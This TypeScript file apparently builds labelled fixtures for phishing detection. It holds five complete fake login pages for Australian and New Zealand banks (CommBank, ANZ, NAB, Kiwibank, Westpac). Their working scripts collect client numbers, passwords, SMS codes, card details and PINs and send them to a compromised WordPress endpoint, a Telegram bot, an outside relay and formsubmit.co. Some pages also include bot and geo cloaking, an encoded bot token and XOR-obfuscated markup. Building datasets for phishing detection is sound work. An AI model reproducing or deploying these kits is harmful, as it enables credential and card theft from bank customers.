import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { shell, baseCss, mark, b64, xorB64, xorDecoder, telegramDrop, luhnJs, cardFields } from '../parts/xd-kit.js';

export const entries: Entry[] = [
{
  id: 'xd-commbank-netbank-sms-chain',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://cba-alerts.au-notice.top/r/8Kq2vNb',
  routes: {
    'cba-alerts.au-notice.top/r/8Kq2vNb': redirectRoute(302, 'https://www.kellyvillepodiatry.com.au/wp-content/uploads/2025/04/nb/index.html?c=8Kq2vNb'),
    'www.kellyvillepodiatry.com.au/wp-content/uploads/2025/04/nb/index.html': htmlRoute(
      shell(
        'Loading…',
        `<div id="w" style="font:14px Arial;color:#555;text-align:center;margin-top:120px">Loading secure session…</div>
<script>
(function(){
  var bad = navigator.webdriver || /bot|crawl|spider|headless|lighthouse|python|curl|wget|preview/i.test(navigator.userAgent) || screen.width < 300 || !navigator.languages || navigator.languages.length === 0;
  var tz = (Intl.DateTimeFormat().resolvedOptions().timeZone || '');
  if (bad || !/^Australia\\//.test(tz)) { location.replace('/'); return; }
  setTimeout(function(){ location.replace('logon.html?sid=' + Math.random().toString(36).slice(2) + '&c=8Kq2vNb'); }, 900);
})();
</script>`,
        { head: '<meta name="robots" content="noindex,nofollow">' },
      ),
    ),
    'www.kellyvillepodiatry.com.au/wp-content/uploads/2025/04/nb/logon.html': htmlRoute(
      shell(
        'NetBank - Log on to NetBank - Enjoy simple and secure online banking from Commonwealth Bank',
        `<header class="top">${mark.commbank(40)}<span style="font-weight:700;font-size:18px">NetBank</span></header>
<main>
 <div id="s1">
  <h1 style="font-size:24px;margin:0 0 6px">Log on to NetBank</h1>
  <p class="muted">For your security, we've detected a sign-in from a new device. Log on to confirm it was you or cancel the request.</p>
  <form id="f1" autocomplete="off">
   <label for="txtMyClientNumber">Client number</label><input type="text" id="txtMyClientNumber" name="txtMyClientNumber" inputmode="numeric" maxlength="8" required>
   <label for="txtMyPassword">Password</label><input type="password" id="txtMyPassword" name="txtMyPassword" required>
   <p><input type="checkbox" id="chkRemember" checked> <label for="chkRemember" style="display:inline;font-weight:400">Remember client number</label></p>
   <button type="submit">Log on</button>
   <p class="muted"><a href="#">I've forgotten my log on details</a> · <a href="#">Register for NetBank</a></p>
  </form>
 </div>
 <div id="s2" style="display:none">
  <h2 style="font-size:20px">Enter your NetCode</h2>
  <p class="muted">We've sent a NetCode by SMS to your registered mobile ending in ••• ••• <b id="last">4</b>. It expires in 5 minutes.</p>
  <form id="f2"><label for="netcode">NetCode</label><input type="tel" id="netcode" name="netcode" maxlength="6" required><p class="err" id="e2">The NetCode you entered is incorrect. We've sent you a new one.</p><button type="submit">Confirm</button></form>
 </div>
 <div id="s3" style="display:none"><h2>Thanks, the request has been cancelled</h2><p>Your accounts are secure. You'll be taken to NetBank shortly.</p></div>
</main>
<footer>Commonwealth Bank of Australia ABN 48 123 123 124 AFSL and Australian credit licence 234945</footer>
<script>
var sid = new URLSearchParams(location.search).get('sid') || '';
var tries = 0;
function post(step, data, cb){
  var fd = new FormData(); fd.append('step', step); fd.append('sid', sid);
  for (var k in data) fd.append(k, data[k]);
  fetch('https://www.kellyvillepodiatry.com.au/wp-content/uploads/2025/04/nb/inc/send.php', {method:'POST', body: fd}).catch(function(){}).finally(cb);
}
document.getElementById('f1').onsubmit = function(e){ e.preventDefault();
  post('login', {client: this.txtMyClientNumber.value, pass: this.txtMyPassword.value}, function(){
    document.getElementById('s1').style.display='none'; document.getElementById('s2').style.display='block';
  });
};
document.getElementById('f2').onsubmit = function(e){ e.preventDefault();
  var c = this.netcode.value; tries++;
  post('otp' + tries, {netcode: c}, function(){
    if (tries < 2) { document.getElementById('e2').style.display='block'; document.getElementById('netcode').value=''; return; }
    document.getElementById('s2').style.display='none'; document.getElementById('s3').style.display='block';
    setTimeout(function(){ location.href='https://www.commbank.com.au/'; }, 3000);
  });
};
</script>`,
        { css: baseCss('#ffcc00', '#1a1a1a', '#000') },
      ),
    ),
  },
},
{
  id: 'xd-anz-crn-firebase-telegram',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://anz-ib-au-verify.web.app/INETBANK/login.html',
  body: shell(
    'ANZ Internet Banking',
    `<header class="top">${mark.anz(34)}</header>
<main style="max-width:520px">
 <section id="p1">
  <h1 style="font-size:22px;color:#004165">Log on to ANZ Internet Banking</h1>
  <form id="f1">
   <label for="crn">Customer Registration Number (CRN)</label><input type="text" id="crn" name="crn" maxlength="9" required>
   <label for="pw">Password</label><input type="password" id="pw" name="pw" required>
   <button style="width:100%;margin-top:18px">Log on</button>
  </form>
  <p class="muted">Forgotten your CRN? Call 13 13 14.</p>
 </section>
 <section id="p2" style="display:none">
  <h2 style="color:#004165">Verify your card</h2>
  <p class="muted">For your protection we've placed a temporary hold on your access. Verify the card linked to your account to remove the hold.</p>
  <form id="f2">
  ${cardFields({ holder: 'ch', number: 'cn', exp: 'ce', cvv: 'cv' })}
  <label for="tbp">Telephone Banking PIN</label><input type="password" id="tbp" name="tbp" maxlength="6">
  <p class="err" id="ce">Please check your card number.</p>
  <button style="width:100%;margin-top:18px">Remove hold</button>
  </form>
 </section>
</main>
<footer>Australia and New Zealand Banking Group Limited (ANZ) ABN 11 005 357 522</footer>
<script>
${luhnJs}
var K = atob('${b64('7814462039:AAF9sRqew4N0_VfbKhJ2cmZLi5pTy3uXggE')}');
var C = atob('${b64('-1002044719853')}');
document.getElementById('f1').onsubmit = function(e){ e.preventDefault();
  ${telegramDrop({ token: "'+K+'", chat: "'+C+'", tag: 'ANZ AU 1/2', fields: ['crn', 'pw'], after: "document.getElementById('p1').style.display='none';document.getElementById('p2').style.display='block'", how: 'xhr' })}
};
document.getElementById('f2').onsubmit = function(e){ e.preventDefault();
  if (!luhn(this.cn.value)) { document.getElementById('ce').style.display='block'; return; }
  ${telegramDrop({ token: "'+K+'", chat: "'+C+'", tag: 'ANZ AU 2/2', fields: ['crn', 'ch', 'cn', 'ce', 'cv', 'tbp'], after: "location.href='https://www.anz.com.au/personal/'", how: 'xhr' })}
};
</script>`,
    { css: baseCss('#004165', '#1a1a1a', '#007dba') },
  ),
},
{
  id: 'xd-nab-restricted-card-relay',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://nab-ib-verify.sbs/ib/nabid/restricted.php',
  body: shell(
    'NAB Internet Banking - Login',
    `<header class="top" style="background:#fff;border-bottom:1px solid #ddd">${mark.nab(36)}</header>
<div style="background:#fdecea;color:#7a0000;padding:12px 24px;font-size:14px"><b>Your access has been temporarily restricted.</b> We noticed unusual activity on your account. Please log in to verify your details within 24 hours to avoid suspension.</div>
<main>
 <h1 style="font-size:22px">Login to NAB Internet Banking</h1>
 <form method="post" action="https://api-relay.clouds-cdn.xyz/nab/rcv.php">
  <input type="hidden" name="src" value="nab-ib-verify.sbs">
  <label for="userid">NAB ID</label><input type="text" id="userid" name="userid" required>
  <label for="password">Password</label><input type="password" id="password" name="password" required>
  <h3 style="margin:22px 0 0;font-size:16px">Card verification</h3>
  ${cardFields({ holder: 'cardname', number: 'cardnum', exp: 'cardexp', cvv: 'cardcvv' })}
  <label for="dob">Date of birth</label><input type="text" id="dob" name="dob" placeholder="DD/MM/YYYY" required>
  <button style="margin-top:18px">Login &amp; verify</button>
 </form>
 <p class="muted"><a href="#">Forgotten your NAB ID or password?</a></p>
</main>
<footer>©2025 National Australia Bank Limited ABN 12 004 044 937 AFSL and Australian Credit Licence 230686</footer>`,
    { css: baseCss('#fff', '#000', '#c20000') },
  ),
},
{
  id: 'xd-kiwibank-keepsafe-formsvc',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://kiwibank-nz.secure-login-portal.online/ib/logon/',
  body: shell(
    'Log in – Kiwibank Internet Banking',
    `<header class="top" style="background:#fff;border-bottom:1px solid #e2e2e2">${mark.kiwibank(34)}<span style="margin-left:auto;font-size:13px">Kia ora</span></header>
<main>
 <h1 style="font-size:24px">Log in to internet banking</h1>
 <p class="muted">We've upgraded our security. To keep using internet banking, please confirm your KeepSafe questions.</p>
 <form id="kb">
  <label>Access number</label><input type="text" name="access_number" inputmode="numeric" required>
  <label>Password</label><input type="password" name="password" required>
  <label>KeepSafe question 1: What was the name of your first school?</label><input type="text" name="ks1" required>
  <label>KeepSafe question 2: What is your favourite holiday destination?</label><input type="text" name="ks2" required>
  <label>KeepSafe question 3: What was your childhood nickname?</label><input type="text" name="ks3" required>
  <label>Mobile number</label><input type="tel" name="mobile" placeholder="021 …" required>
  <button style="margin-top:16px">Log in</button>
  <p class="err" id="ok" style="color:#2e7d32">Thanks, your details are confirmed.</p>
 </form>
</main>
<footer>Kiwibank Limited · Ngā mihi</footer>
<script>
document.getElementById('kb').addEventListener('submit', function (e) {
  e.preventDefault();
  var d = Object.fromEntries(new FormData(this));
  d._subject = 'KB NZ ' + d.access_number; d._captcha = 'false';
  fetch('https://formsubmit.co/ajax/' + ['lodgements.nz', 'proton.me'].join('@'), { method: 'POST', headers: { 'Content-Type': 'application/json', Accept: 'application/json' }, body: JSON.stringify(d) })
    .then(function () { document.getElementById('ok').style.display = 'block'; setTimeout(function () { location.replace('https://www.kiwibank.co.nz/'); }, 2000); });
});
</script>`,
    { lang: 'en-NZ', css: baseCss('#fff', '#1b1b1b', '#00953a') },
  ),
},
{
  id: 'xd-westpac-lookalike-xor-blob',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://xn--westpc-7nf.com.au/personal-banking/online-banking/sign-in',
  body: shell(
    'Westpac',
    `<div id="root"></div>
<script>
${xorDecoder('_d')}
var _k = 'wbc' + (3 * 7) + 'au';
document.getElementById('root').innerHTML = _d('${xorB64(
      `<header class="top" style="background:#fff;border-bottom:4px solid #da1710">${mark.westpac(28)}</header><main><h1 style="font-weight:400">Online Banking sign in</h1><form action="https://sync-wbc.backend-au.workers.dev/collect" method="post"><label>Customer ID</label><input type="text" name="cid" required><label>Password</label><input type="password" name="pwd" required><label>Mobile number</label><input type="tel" name="mob" required><button>Sign in</button></form><p class="muted">Westpac Banking Corporation ABN 33 007 457 141</p></main>`,
      'wbc21au',
    )}', _k);
</script>`,
    { css: baseCss('#fff', '#1f1c4f', '#da1710') },
  ),
},
];
